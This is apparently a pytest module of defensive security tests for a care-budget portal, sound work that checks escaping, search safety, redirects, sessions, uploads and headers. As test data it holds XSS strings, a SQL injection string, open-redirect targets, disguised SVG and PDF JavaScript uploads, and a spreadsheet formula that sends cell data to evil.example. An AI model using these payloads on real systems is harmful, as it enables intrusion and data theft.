"""Attacks (issue #10): each line of the issue's list, and the tests that prove it.

- XSS payloads in every free-text field and in chat come back escaped:
  test_hostile_text_in_every_field_comes_back_as_text (hostile text stored through the forms and factories, then
  every page the person, their helper and staff can reach is crawled, with the CSV and ZIP downloads; PDFs are drawn
  as plain text by fpdf2, so they are checked for type only), test_hostile_chat_comes_back_as_text_in_the_htmx_
  fragment_too, test_hostile_text_typed_into_a_form_that_refuses_it_comes_back_as_text, search boxes in
  test_sql_and_fts_metacharacters_in_every_search_are_only_words; links only for http(s):
  test_a_javascript_web_address_is_never_a_link. CSV formula guards: every CSV cell met by the crawl, and
  tests/unit/domain/test_pa_pay.py, tests/unit/domain/test_audit_trail.py.
- SQL metacharacters in search: test_sql_and_fts_metacharacters_in_every_search_are_only_words,
  test_like_wildcards_match_only_themselves.
- Open redirects via next=: tests/web/test_auth.py::test_sign_in_never_redirects_off_the_site, and here
  test_next_never_leaves_the_site_however_it_is_written.
- Session fixation (the session changes at sign-in): test_a_session_from_before_sign_in_never_becomes_signed_in,
  test_a_signed_in_cookie_replayed_after_sign_out_is_not_signed_in; other sessions end after a password change or
  reset: tests/web/test_auth.py::test_change_password_keeps_this_session_and_ends_the_others,
  ::test_a_password_reset_ends_other_sessions,
  tests/web/test_settings.py::test_a_password_reset_ends_every_session_in_the_list.
- Account enumeration (same answer for unknown emails):
  test_sign_in_answers_an_unknown_email_exactly_as_a_wrong_password, test_an_unknown_email_costs_a_password_hash_too,
  test_a_reset_for_an_unknown_email_is_answered_alike;
  tests/web/test_auth.py::test_sign_in_with_wrong_details_says_the_same_thing_either_way,
  ::test_forgotten_password_for_an_unknown_email_looks_the_same_and_sends_nothing; closed accounts:
  tests/web/test_data_rights.py::test_a_closed_account_cannot_sign_in_and_is_answered_like_an_unknown_email.
  Registration with a taken email still says so (tests/web/test_auth.py::test_register_refuses_an_email_already_in_use):
  a known limit, since registering signs in at once; rate limited to 10 an hour.
- Passwords against a common-password list and a minimum length (NCSC): tests/unit/test_passwords.py,
  tests/web/test_auth.py::test_register_refuses_guessable_passwords_with_one_clear_message,
  ::test_register_refuses_a_short_common_password_for_its_length_only, ::test_a_reset_refuses_guessable_passwords…,
  ::test_change_password_refuses_guessable_passwords_and_keeps_the_old_one.
- CSRF on every POST: tests/web/test_security.py::test_every_post_refuses_a_missing_csrf_token_and_changes_nothing.
- CSP, frame-ancestors, referrer policy on every response: tests/web/test_security.py::
  test_every_response_carries_the_security_headers (every route), and here
  test_error_pages_redirects_fragments_and_downloads_carry_the_security_headers (404, 405, 413, CSRF refusal, static
  files, redirects, htmx fragments, JSON), test_an_unexpected_error_carries_the_security_headers (500),
  test_every_download_is_a_safe_type_and_an_attachment (downloads). HSTS only over HTTPS: test_hsts_only_over_https.
  Cookie flags: tests/web/test_security.py::test_session_cookie_is_http_only_and_same_site,
  ::test_production_cookies_are_secure, and here test_production_session_cookie_is_secure_http_only_and_same_site.
- Uploads never served with an executable content type: test_every_download_is_a_safe_type_and_an_attachment (and
  every download met by the crawl); disguised uploads refused:
  tests/web/test_spending.py::test_a_wrong_receipt_is_explained_and_nothing_is_recorded,
  tests/unit/domain/test_receipts.py, and here test_markup_disguised_as_a_receipt_is_refused.
- /.well-known/security.txt: tests/web/test_security.py::test_security_txt_says_how_to_report_a_problem and the three
  after it.
"""

import csv
import io
import re
import zipfile
from collections import deque
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from portal.data.models import Role
from tests.factories import approve_a_plan, make_assessment, make_helper_for, make_user, tiny_png
from tests.web.conftest import WebClient, csrf_token_from


def hostile(tag: str) -> str:
    """Markup, an event handler and a template expression, with a tag saying where it was typed."""
    return f'"><script>alert(1)</script><img src=x onerror=alert(1)>{{{{7*7}}}}#{tag}'


PA_ITEM = hostile("plan_item") + " personal assistant"  # a personal assistant item has timesheets
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SAFE_DOWNLOADS = {"image/png", "image/jpeg", "application/pdf", "application/zip", "text/csv"}


def assert_harmless_html(body: str, where: str) -> BeautifulSoup:
    soup = BeautifulSoup(body, "html.parser")
    assert not [s for s in soup.find_all("script") if "alert(" in s.get_text()], f"a script got through on {where}"
    assert not soup.find_all(attrs={"onerror": True}), f"an event handler got through on {where}"
    assert not re.search(r"49#\w", body), f"a template expression was run on {where}"
    for link in soup.find_all(href=True):
        assert not link["href"].strip().lower().startswith("javascript:"), f"a javascript: link on {where}"
    return soup


def assert_formula_guarded(text: str, where: str) -> str:
    """Every cell checked; returns the cells as text."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@")), f"a spreadsheet would run {cell!r} from {where}"
        # A minus sign starts a negative amount too: only numbers may start with one.
        assert not cell.startswith("-") or re.fullmatch(r"-[0-9.]+", cell), f"{cell!r} from {where}"
    return " ".join(cells)


def assert_safe_download(response, where: str) -> None:
    kind = response.mimetype
    assert kind in SAFE_DOWNLOADS, f"{where} served as {kind}"
    assert response.headers["X-Content-Type-Options"] == "nosniff", where
    assert response.headers.get("Content-Disposition", "").startswith("attachment"), where


def crawl(web: WebClient, start: list[str], shown: dict[str, str], limit: int = 300) -> None:
    """Every page reachable by links from `start`, each checked; `shown` collects each page's visible text."""
    queue, seen, weeks = deque(start), set(start), 0
    while queue and len(seen) < limit:
        url = queue.popleft()
        response = web.client.get(url)
        response.get_data()
        response.close()  # a file sent whole (the ZIPs) stays open until its response is closed
        assert response.status_code < 500, (url, response.status_code)
        if response.status_code != 200:
            continue
        if response.mimetype != "text/html":
            _check_download(response, f"{web.role} {url}", shown)
            continue
        body = response.get_data(as_text=True)
        soup = assert_harmless_html(body, url)
        shown[f"{web.role} {url}"] = soup.get_text(" ")
        for link in soup.find_all("a", href=True):
            target = link["href"].split("#")[0]
            parts = urlsplit(target)
            if parts.scheme or parts.netloc or not target.startswith("/") or target in seen:
                continue
            # Language and Easy Read switches change the session, not the record; help and the directory are
            # the council's text, with their search boxes tried on their own below.
            if re.search(r"[?&](lang|easy_read)=", target) or target.startswith(("/help", "/directory", "/static")):
                continue
            if "/weeks/" in target:
                weeks += 1  # a timesheet a week: two of them show what every week shows
                if weeks > 2:
                    continue
            seen.add(target)
            queue.append(target)


def _check_download(response, url: str, shown: dict[str, str]) -> None:
    assert_safe_download(response, url)
    if response.mimetype == "text/csv":
        shown[url] = assert_formula_guarded(response.get_data(as_text=True), url)
    elif response.mimetype == "application/zip":
        with zipfile.ZipFile(io.BytesIO(response.data)) as pack:
            for name in pack.namelist():
                if name.endswith(".html"):
                    body = pack.read(name).decode()
                    shown[f"{url}!{name}"] = assert_harmless_html(body, f"{url}!{name}").get_text(" ")
                elif name.endswith(".csv"):
                    shown[f"{url}!{name}"] = assert_formula_guarded(pack.read(name).decode(), f"{url}!{name}")


@pytest.fixture
def fake_assistant(app):
    """The assistant answers every message with hostile text of its own."""
    import threading
    from http.server import ThreadingHTTPServer

    from tests.web.test_help import FakeRasa

    server = ThreadingHTTPServer(("127.0.0.1", 0), FakeRasa)
    server.received = []
    server.daemon_threads = True
    FakeRasa.answer, FakeRasa.delay = [{"text": hostile("assistant")}], 0.0
    threading.Thread(target=server.serve_forever, daemon=True).start()
    app.config["RASA_URL"] = f"http://127.0.0.1:{server.server_port}"
    yield server
    server.shutdown()
    server.server_close()


def _days(day):
    return [str(day.day), str(day.month), str(day.year)]


def _hostile_world(app):
    """A person, their helper and staff, with hostile text typed into every free-text box they have."""
    from portal.data import budget_accounts
    from portal.data.db import db_session
    from portal.data.demo import DEMO_ANSWERS
    from portal.timekeeping import today

    person_id, person_email = make_user(app, Role.PERSON, full_name=hostile("person_name"))
    helper_id, helper_email = make_user(app, Role.REPRESENTATIVE, full_name=hostile("helper_name"))
    staff_id, staff_email = make_user(app, Role.STAFF, full_name=hostile("staff_name"))
    make_helper_for(app, person_email, helper_email)
    person, helper, staff = (WebClient(app.test_client()) for _ in range(3))
    person.role, helper.role, staff.role = "person", "helper", "staff"
    person.sign_in(person_email)
    helper.sign_in(helper_email)
    staff.sign_in(staff_email)
    answers = {**DEMO_ANSWERS, "about_what_matters": hostile("assessment_text"), "B_notes": hostile("assessment_notes")}
    make_assessment(app, person_id, answers, send=True)
    records = f"/people/{person_id}"
    person.submit(
        f"{records}/budget/review",
        {"reason": hostile("review_reason"), "what_is_needed": hostile("review_needed")},
        status=302,
    )
    approve_a_plan(
        app,
        person_id,
        [(PA_ITEM, 1750, 1000, "week"), (FORMULA, 5500, 100, "week")],
        staff_id=staff_id,
    )
    with app.app_context():  # a quarter has gone by, so a return can be sent
        account = budget_accounts.account_for(person_id)
        account.starts_on = account.starts_on.replace(year=account.starts_on.year - 1)
        db_session().commit()
        items = {item.description: str(item.id) for item in account.plan.items}
    person.get(f"{records}/budget-account")
    spending = {
        "occurred_on": _days(today()),
        "payee": hostile("payee"),
        "plan_item": items[PA_ITEM],
        "amount": "12.50",
        "payment_method": "bank transfer",
        "note": hostile("spending_note"),
    }
    for changes in ({}, {"payee": FORMULA, "note": "+1"}, {"plan_item": "other", "other_reason": hostile("other")}):
        person.submit(
            f"{records}/budget-account/spending/new",
            {**spending, **changes, "receipt": (io.BytesIO(tiny_png()), "<script>alert(1)</script>.png")},
            status=302,
            content_type="multipart/form-data",
        )
    with app.app_context():
        wrong = budget_accounts.entries(budget_accounts.account_for(person_id))[-1]
    person.submit(f"{records}/budget-account/records/{wrong.id}/correct", {"reason": hostile("correction")}, status=302)
    person.submit(
        f"{records}/budget-account/assistants/{items[PA_ITEM]}",
        {"name": hostile("pa_name"), "hours_pattern": "regular", "usual_hours": "10"},
        status=302,
    )
    returns = person.page(f"{records}/budget-account/returns/new")
    period = returns.select_one("input[name=period]")["value"]
    person.submit(f"{records}/budget-account/returns/new", {"period": period, "declaration": "y"}, status=302)
    with app.app_context():
        sent = budget_accounts.returns(budget_accounts.account_for(person_id))[0].id
    staff.submit(
        f"/staff/returns/{sent}", {"decision": "question", "question": hostile("council_question")}, status=302
    )
    person.submit(f"{records}/budget-account/returns/{sent}", {"text": hostile("return_answer")}, status=302)

    person.submit(f"{records}/plan/change", {}, status=302, form_url=f"{records}/plan")
    person.submit(
        f"{records}/plan/about-me", {"important": hostile("about_me"), "revision": _revision(person, records)}
    )
    person.submit(
        f"{records}/plan/staying-safe",
        {
            "risks": hostile("risks"),
            "plan": hostile("safety_plan"),
            "contacts": hostile("contacts"),
            "revision": _revision(person, records, "/staying-safe"),
        },
    )
    person.submit(
        "/account/helpers/invite",
        {
            "helper_name": hostile("invited_name"),
            "relationship": hostile("relationship")[:100],
            "permissions": ["see_everything"],
            "send_by": "code",
        },
        status=302,
    )
    staff.submit(
        f"/staff/people/{person_id}/representatives",
        {
            "email": helper_email,
            "relationship": hostile("staff_relationship"),
            "legal_basis": "lasting_power_of_attorney",
            "reason": hostile("staff_reason"),
            "permissions": ["see_everything"],
        },
    )
    person.submit("/chat", {"message": hostile("chat")}, status=302)
    return person_id, person, helper, staff


def _revision(web, records, page="/about-me"):
    return web.page(f"{records}/plan{page}").select_one("input[name=revision]")["value"]


# Where (a pattern for "role url") each field's text must be met, as text; every page met is checked regardless.
WHERE_SHOWN = {
    "person_name": ["/dashboard", "/staff/budget-accounts", "/people-i-help"],
    "helper_name": ["/account/helpers"],
    "staff_name": ["/account/record-history"],
    # Once sent, the answers are the council's to see, and the person's in their own copy of their records.
    "assessment_text": ["/staff/assessments/", "data-rights.zip!summary.html"],
    "assessment_notes": ["/staff/assessments/", "data-rights.zip!summary.html"],
    "review_reason": ["/staff/assessments/"],
    "review_needed": ["/staff/assessments/"],
    "plan_item": ["/plan/budget", "/budget-account/records", "/statement.csv", "/staff/budget-accounts/"],
    "payee": ["/budget-account/records", "/statement.csv", "/evidence.zip", "data-rights.zip!summary.html"],
    "spending_note": ["/budget-account/records/"],
    "other": ["/budget-account/records/"],
    "correction": ["/budget-account/records"],
    "pa_name": ["/budget-account/assistants"],
    "council_question": ["/budget-account/returns/"],
    "return_answer": ["/staff/returns/", "data-rights.zip!summary.html"],
    "about_me": ["/plan/about-me", "/plan/print"],
    "risks": ["/plan/print"],
    "invited_name": ["/account/helpers"],
    "staff_relationship": ["/account/helpers"],
    "chat": ["person /chat"],
}


def test_hostile_text_in_every_field_comes_back_as_text(app, fake_assistant):
    person_id, person, helper, staff = _hostile_world(app)
    shown: dict[str, str] = {}
    records = f"/people/{person_id}"
    crawl(person, ["/dashboard", "/chat", f"{records}/plan/print", "/account/record-history"], shown)
    crawl(helper, ["/dashboard", "/people-i-help"], shown)
    crawl(staff, ["/staff", f"/staff/audit?person={person_id}", "/staff/audit.csv", "/staff/people?search=test"], shown)
    for url in (f"{records}/plan/plan.pdf", f"{records}/budget-account/statement.pdf"):
        assert_safe_download(person.get(url), url)
    download = person.submit("/account/your-data/download", {}, form_url="/account/your-data")
    download.get_data()
    download.close()
    _check_download(download, "person /data-rights.zip", shown)

    missing = {}
    for tag, places in WHERE_SHOWN.items():
        text = hostile(tag)
        for place in places:
            if not any(re.search(place, url) and text in page for url, page in shown.items()):
                missing.setdefault(tag, []).append(place)
    assert not missing, f"not shown where expected (as text): {missing}; pages: {sorted(shown)}"


# ---- searches ---------------------------------------------------------------------------------------------------

METACHARACTERS = [
    hostile("search"),
    "'",
    '"',
    ";",
    "--",
    "%",
    "_",
    "\\",
    "' OR '1'='1",
    "a\x00b",
    "x" * 5000,
    # SQLite FTS5's own query syntax, and PostgreSQL tsquery's
    '"unfinished',
    "care*",
    "NEAR(care home)",
    "-care",
    "name:care",
    "care & | ! ( ) :*",
]
PUBLIC_SEARCHES = ["/directory?q={}", "/directory?postcode={}", "/help/jargon-buster?q={}"]
API_SEARCHES = [
    "/api/oruk/services?search={}",
    "/api/oruk/services?postcode={}",
    "/api/oruk/services?taxonomy_term_id={}",
]
STAFF_SEARCHES = [
    "/staff/audit?person={}",
    "/staff/audit?actor={}",
    "/staff/audit?kind={}&since={}",
    "/staff/audit.csv?person={}",
    "/staff/people?search={}",
    "/staff/directory?q={}",
]
PERSON_SEARCHES = ["/account/record-history?kind={}&since={}"]


def _signed_in(app, role):
    user_id, email = make_user(app, role)
    web = WebClient(app.test_client())
    web.sign_in(email)
    return user_id, web


def test_sql_and_fts_metacharacters_in_every_search_are_only_words(app, web):
    from urllib.parse import quote

    from tests.factories import add_services, oruk_service

    add_services(app, oruk_service("Anytown Home Care"))
    _, staff = _signed_in(app, Role.STAFF)
    _, person = _signed_in(app, Role.PERSON)
    for client, searches in ((web, PUBLIC_SEARCHES + API_SEARCHES), (staff, STAFF_SEARCHES), (person, PERSON_SEARCHES)):
        for search in searches:
            for words in METACHARACTERS:
                url = search.format(*[quote(words)] * search.count("{}"))
                response = client.client.get(url)
                response.close()
                assert response.status_code in (200, 302, 400), (url, response.status_code)
                if response.mimetype == "text/html":
                    assert_harmless_html(response.get_data(as_text=True), url)
    assert "Anytown Home Care" in web.page("/directory?q=care*").get_text()  # the search still works after it all


def test_like_wildcards_match_only_themselves(app):
    from portal.data.models import Role as R

    make_user(app, R.PERSON, full_name="Pat 100% Jones", email="pat_jones@example.org")
    make_user(app, R.PERSON, full_name="Matt Jay 10", email="mattjay@example.org")  # what "0%" or "t_j" would match
    _, staff = _signed_in(app, R.STAFF)

    def names(url):
        return staff.page(url).get_text(" ")

    for search in ("0%25", "t_j"):
        found = names(f"/staff/people?search={search}")
        assert "Pat 100% Jones" in found and "Matt Jay" not in found, search
    assert "Pat 100% Jones" not in names("/staff/people?search=' OR '1'='1")


# ---- open redirects ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example/",
        "https:/evil.example/",
        " //evil.example/",
        "javascript:alert(1)",
        "/%2F%2Fevil.example/",
        "http://localhost@evil.example/",
    ],
)
def test_next_never_leaves_the_site_however_it_is_written(web, person, target):
    from urllib.parse import quote

    response = web.submit(
        f"/sign-in?next={quote(target)}", {"email": person[1], "password": "correct horse battery"}, form_url="/sign-in"
    )
    location = urlsplit(response.headers["Location"])
    assert response.status_code == 302 and not location.netloc, location
    assert not location.path.startswith(("//", "/\\")), location  # a browser reads those as another site


# ---- session fixation -------------------------------------------------------------------------------------------

COOKIE = "cc_session"


def test_a_session_from_before_sign_in_never_becomes_signed_in(app, web, person):
    before_page = web.get("/sign-in")
    before = web.client.get_cookie(COOKIE).value
    web.sign_in(person[1])
    after = web.client.get_cookie(COOKIE).value
    assert after != before
    # Nothing from before carries over: not even the CSRF token planted with the old session.
    assert csrf_token_from(web.get("/account/change-password")) != csrf_token_from(before_page)
    planted = app.test_client()  # whoever gave the victim that first cookie still has it
    planted.set_cookie(COOKIE, before)
    assert planted.get("/dashboard").status_code == 302


def test_a_signed_in_cookie_replayed_after_sign_out_is_not_signed_in(app, web, person):
    web.sign_in(person[1])
    copied = web.client.get_cookie(COOKIE).value
    web.submit("/sign-out", {}, status=302, form_url="/dashboard")
    replayed = app.test_client()
    replayed.set_cookie(COOKIE, copied)
    response = replayed.get("/dashboard")
    assert response.status_code == 302 and "/sign-in" in response.headers["Location"]


# ---- account enumeration ----------------------------------------------------------------------------------------


def _answer_without(response, *typed) -> tuple[int, str]:
    body = re.sub(r'name="csrf_token"[^>]*>', "", response.get_data(as_text=True))
    for text in typed:
        body = body.replace(text, "TYPED")
    return response.status_code, body


def test_sign_in_answers_an_unknown_email_exactly_as_a_wrong_password(web, person):
    known = web.submit("/sign-in", {"email": person[1], "password": "wrong horse battery"})
    unknown = web.submit("/sign-in", {"email": "nobody@example.org", "password": "wrong horse battery"})
    assert known.status_code == 200
    assert _answer_without(known, person[1]) == _answer_without(unknown, "nobody@example.org")


class _HasherSpy:
    """The real hasher, noting each argon2 hash or verify it is asked for."""

    def __init__(self, hasher, work):
        self.hasher, self.work = hasher, work

    def hash(self, *args, **kwargs):
        self.work.append("hash")
        return self.hasher.hash(*args, **kwargs)

    def verify(self, *args, **kwargs):
        self.work.append("verify")
        return self.hasher.verify(*args, **kwargs)

    def __getattr__(self, name):
        return getattr(self.hasher, name)


def test_an_unknown_email_costs_a_password_hash_too(app, web, person, monkeypatch):
    work = []
    monkeypatch.setitem(app.extensions, "password_hasher", _HasherSpy(app.extensions["password_hasher"], work))
    web.submit("/sign-in", {"email": person[1], "password": "wrong horse battery"})
    assert work == ["verify"]
    work.clear()
    web.submit("/sign-in", {"email": "nobody@example.org", "password": "wrong horse battery"})
    assert work == ["hash"]  # argon2 either way, so the answer takes as long


def test_a_reset_for_an_unknown_email_is_answered_alike(web, person):
    answers = []
    for email in (person[1], "nobody@example.org"):
        response = web.submit("/forgotten-password", {"email": email}, status=302)
        answers.append((response.headers["Location"], _answer_without(web.get(response.headers["Location"]), email)))
    assert answers[0] == answers[1]


# ---- uploads and downloads --------------------------------------------------------------------------------------


@pytest.fixture
def account_holder(app):
    from portal.data.demo import DEMO_ANSWERS

    person_id, email = make_user(app, Role.PERSON)
    make_assessment(app, person_id, DEMO_ANSWERS, send=True)
    approve_a_plan(app, person_id)
    web = WebClient(app.test_client())
    web.sign_in(email)
    web.get(f"/people/{person_id}/budget-account")
    return person_id, web


def _spend_with(app, web, person_id, upload, status):
    from portal.data import budget_accounts
    from portal.timekeeping import today

    with app.app_context():
        item = str(budget_accounts.account_for(person_id).plan.items[0].id)
    data = {"occurred_on": _days(today()), "payee": "Shop", "plan_item": item, "amount": "1.00"}
    data |= {"payment_method": "bank transfer", "receipt": upload}
    return web.submit(
        f"/people/{person_id}/budget-account/spending/new", data, status=status, content_type="multipart/form-data"
    )


DISGUISED = [
    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "receipt.png"),
    (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "r.svg"),
    (tiny_png() + b"<script>alert(1)</script>", "polyglot.png"),
    (b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (alert(1)) >> >>\n%%EOF\n", "receipt.pdf"),
    (b"alert(document.cookie)//\xff\xd8\xff\xd9", "receipt.js"),
]


def test_markup_disguised_as_a_receipt_is_refused(app, account_holder):
    person_id, web = account_holder
    for content, name in DISGUISED:
        response = _spend_with(app, web, person_id, (io.BytesIO(content), name), status=200)
        assert "must be a JPG, PNG or PDF" in response.get_data(as_text=True), name


def test_every_download_is_a_safe_type_and_an_attachment(app, account_holder):
    from portal.data import budget_accounts

    person_id, web = account_holder
    _spend_with(app, web, person_id, (io.BytesIO(tiny_png()), "till.png"), status=302)
    with app.app_context():
        account = budget_accounts.account_for(person_id)
        receipt_id = budget_accounts.entries(account)[-1].receipt_id
    records = f"/people/{person_id}/budget-account"
    staff_id, staff_email = make_user(app, Role.STAFF)
    staff = WebClient(app.test_client())
    staff.sign_in(staff_email)
    downloads = [
        (web, f"{records}/receipts/{receipt_id}"),
        (staff, f"/staff/budget-accounts/{account.id}/receipts/{receipt_id}"),
        (web, f"{records}/statement.csv"),
        (web, f"{records}/statement.pdf"),
        (web, f"{records}/evidence.zip"),
        (web, f"/people/{person_id}/plan/plan.pdf"),
        (staff, "/staff/audit.csv"),
    ]
    for client, url in downloads:
        response = client.get(url)
        assert_safe_download(response, url)
        _assert_security_headers(response, url)
        assert "charset" not in response.headers["Content-Type"] or response.mimetype == "text/csv", url
    receipt = web.get(f"{records}/receipts/{receipt_id}")
    receipt.close()
    # Even opened on its own, it runs nothing and cannot be framed.
    assert receipt.headers["Content-Security-Policy"] == "default-src 'none'; sandbox; frame-ancestors 'none'"
    pack = web.submit("/account/your-data/download", {}, form_url="/account/your-data")
    pack.close()
    assert_safe_download(pack, "your data")


# ---- headers on every kind of response --------------------------------------------------------------------------


def _assert_security_headers(response, where):
    from portal.security import CONTENT_SECURITY_POLICY

    response.close()
    headers = response.headers
    policy = headers.get("Content-Security-Policy", "")
    assert policy in (CONTENT_SECURITY_POLICY, "default-src 'none'; sandbox; frame-ancestors 'none'"), where
    assert "frame-ancestors 'none'" in CONTENT_SECURITY_POLICY
    assert headers["X-Content-Type-Options"] == "nosniff", where
    assert headers["X-Frame-Options"] == "DENY", where
    assert headers["Referrer-Policy"] == "same-origin", where
    assert headers["Permissions-Policy"].startswith("camera=()"), where
    assert "Strict-Transport-Security" not in headers, f"HSTS over plain http on {where}"


def test_error_pages_redirects_fragments_and_downloads_carry_the_security_headers(app, web, signed_in_person):
    client = web.client
    checks = {
        "404": client.get("/no-such-page"),
        "405": client.get("/sign-out"),
        "413": client.post("/sign-in", data={"email": "x" * (12 * 1024 * 1024)}),
        "400 (no CSRF token)": client.post("/account/change-password", data={}),
        "a redirect": client.get(f"/people/{signed_in_person[0]}/assessment/continue"),
        "a static file": client.get("/static/app.css"),
        "a GOV.UK asset": client.get("/assets/images/favicon.svg"),
        "an htmx fragment": client.get("/directory?q=care", headers={"HX-Request": "true"}),
        "security.txt": client.get("/.well-known/security.txt"),
        "JSON": client.get("/api/oruk/services"),
        "a page, signed out": app.test_client().get("/help"),
    }
    assert checks["404"].status_code == 404 and checks["405"].status_code == 405
    assert checks["413"].status_code == 413 and checks["400 (no CSRF token)"].status_code == 400
    assert checks["a redirect"].status_code == 302
    for where, response in checks.items():
        _assert_security_headers(response, where)


def test_an_unexpected_error_carries_the_security_headers(app, monkeypatch):
    from flask import Blueprint

    from portal import policy
    from portal.app import create_app
    from portal.config import TestConfig

    config = TestConfig()
    config.DATABASE_URL = app.config["DATABASE_URL"]
    config.PROPAGATE_EXCEPTIONS = False  # as in production: the error page, not the traceback
    throwaway = create_app(config)
    broken = Blueprint("broken", __name__)
    broken.add_url_rule("/broken", "fails", lambda: 1 / 0)
    throwaway.register_blueprint(broken)
    monkeypatch.setitem(policy.ROUTE_ACCESS, "broken.fails", policy.Access.ANYONE)
    response = throwaway.test_client().get("/broken")
    assert response.status_code == 500
    _assert_security_headers(response, "500")
    throwaway.extensions["db_engine"].dispose()


def test_hsts_only_over_https(app, web):
    app.config["HSTS"] = True
    assert "Strict-Transport-Security" not in web.get("/").headers
    over_https = web.get("/", base_url="https://localhost")
    assert over_https.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    behind_proxy = web.get("/", headers={"X-Forwarded-Proto": "https"})  # TLS ended at the proxy in front
    assert behind_proxy.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    app.config["HSTS"] = False  # development: plain http on 127.0.0.1, never pinned to https
    assert "Strict-Transport-Security" not in web.get("/", base_url="https://localhost").headers


def test_production_session_cookie_is_secure_http_only_and_same_site(app, person):
    from portal.app import create_app
    from portal.config import Config

    config = Config()
    config.SECRET_KEY, config.PUBLIC_URL = "x" * 64, "https://portal.example.org"
    config.DATABASE_URL, config.DEMO_DATA = app.config["DATABASE_URL"], False
    production = create_app(config)
    client = production.test_client()
    # Over https only: the cookie is Secure, and Flask-WTF checks the Referer on https.
    https = {"base_url": "https://localhost", "headers": {"Referer": "https://localhost/sign-in"}}
    token = csrf_token_from(client.get("/sign-in", **https))
    response = client.post(
        "/sign-in", data={"email": person[1], "password": "correct horse battery", "csrf_token": token}, **https
    )
    cookie = response.headers["Set-Cookie"]
    assert response.status_code == 302
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie, cookie
    production.extensions["db_engine"].dispose()


def test_hostile_text_typed_into_a_form_that_refuses_it_comes_back_as_text(app, web):
    _, staff = _signed_in(app, Role.STAFF)
    _, person = _signed_in(app, Role.PERSON)
    refused = [
        (web, "/register", {"full_name": hostile("register"), "email": hostile("email"), "password": "x"}),
        (web, "/sign-in", {"email": hostile("sign_in"), "password": ""}),
        (web, "/forgotten-password", {"email": hostile("reset")}),
        (person, "/account/settings/phone", {"phone": hostile("phone")}),
        (person, "/account/helpers/invite", {"helper_name": hostile("invite"), "send_by": "email", "email": "x"}),
        (staff, "/staff/directory/new", {"name": hostile("service"), "url": "javascript:alert(1)"}),
    ]
    for client, url, data in refused:
        response = client.submit(url, data, status=200)
        soup = assert_harmless_html(response.get_data(as_text=True), url)
        assert soup.select_one(".govuk-error-summary"), url
        typed = next(value for value in data.values() if "alert" in value)
        kept = [tag.get("value", "") for tag in soup.find_all("input")] + [soup.get_text()]
        assert any(typed in value for value in kept), f"{url} did not keep what was typed"


def test_a_javascript_web_address_is_never_a_link(app, web):
    from tests.factories import add_services, oruk_service

    record = oruk_service("Dodgy Service", description=hostile("description"))
    record["url"] = " JavaScript:alert(1)"
    add_services(app, record)
    soup = web.page(f"/directory/services/{record['id']}")
    assert_harmless_html(str(soup), "the service page")
    assert hostile("description") in soup.get_text()


def test_hostile_chat_comes_back_as_text_in_the_htmx_fragment_too(web, fake_assistant):
    token = csrf_token_from(web.get("/chat"))
    response = web.client.post(
        "/chat", data={"message": hostile("htmx"), "csrf_token": token}, headers={"HX-Request": "true"}
    )
    assert response.status_code == 200
    fragment = assert_harmless_html(response.get_data(as_text=True), "the chat's htmx fragment")
    assert hostile("htmx") in fragment.get_text()
